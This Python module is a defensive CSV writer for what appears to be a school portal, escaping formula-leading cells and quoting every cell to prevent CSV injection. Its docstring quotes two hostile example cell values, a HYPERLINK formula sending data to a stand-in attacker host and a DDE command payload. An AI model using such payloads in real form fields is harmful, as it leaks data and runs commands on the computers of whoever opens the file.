"""The one writer for every CSV file the portal writes (docs/quality.md §4, OWASP "CSV Injection").

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a
parent-typed address such as `=HYPERLINK("http://evil.example?"&A1,"Click")` would run on the office's
computer when they open the download. Every such cell is written with a leading apostrophe, which
spreadsheets take as "this is text" and do not show; everything else is written as it is. A phone number in
E.164 (`+14045550123`) therefore reads `'+14045550123` to a program that loads the file: the price of one rule
for every cell, which OWASP recommends over guessing which cells are safe.

Every cell is quoted (OWASP's other rule): a spreadsheet set to split on semicolons (as in much of Europe and
Latin America) would otherwise start a new cell, and a formula, at the `=` of `6384 Holly Way;=cmd|' /C
calc'!A0`, which has no comma to be quoted for; and a file meant for an SIS loader is opened in a spreadsheet
too. Quoting every cell is RFC 4180, which every loader reads.

Files meant to be opened in a spreadsheet or a mail merge start with a UTF-8 byte-order mark, without which
Excel reads UTF-8 as Windows-1252 and shows `JosÃ©` for `José`; files meant for an SIS loader have none.
Rows end in CRLF (RFC 4180).
"""

from __future__ import annotations

import csv
import io
from typing import Any, Iterable, Sequence, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BYTE_ORDER_MARK = "\ufeff"


def neutralise(value: Any) -> str:
    """The cell's text, with a leading apostrophe when a spreadsheet would run it as a formula.
    None is an empty cell; other values are written with str()."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def write_csv(out: TextIO, header: Sequence[str], rows: Iterable[Sequence[Any]], *, for_spreadsheet: bool) -> int:
    """Write `header` and `rows` to `out` (a text stream opened with newline=""); returns the number of rows.

    for_spreadsheet: True for files a person opens in a spreadsheet or a mail merge (byte-order mark first).
    """
    if for_spreadsheet:
        out.write(BYTE_ORDER_MARK)
    writer = csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
    writer.writerow([neutralise(name) for name in header])
    count = 0
    for row in rows:
        writer.writerow([neutralise(cell) for cell in row])
        count += 1
    return count


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]], *, for_spreadsheet: bool) -> str:
    """The whole file as one string, for a download."""
    out = io.StringIO(newline="")
    write_csv(out, header, rows, for_spreadsheet=for_spreadsheet)
    return out.getvalue()
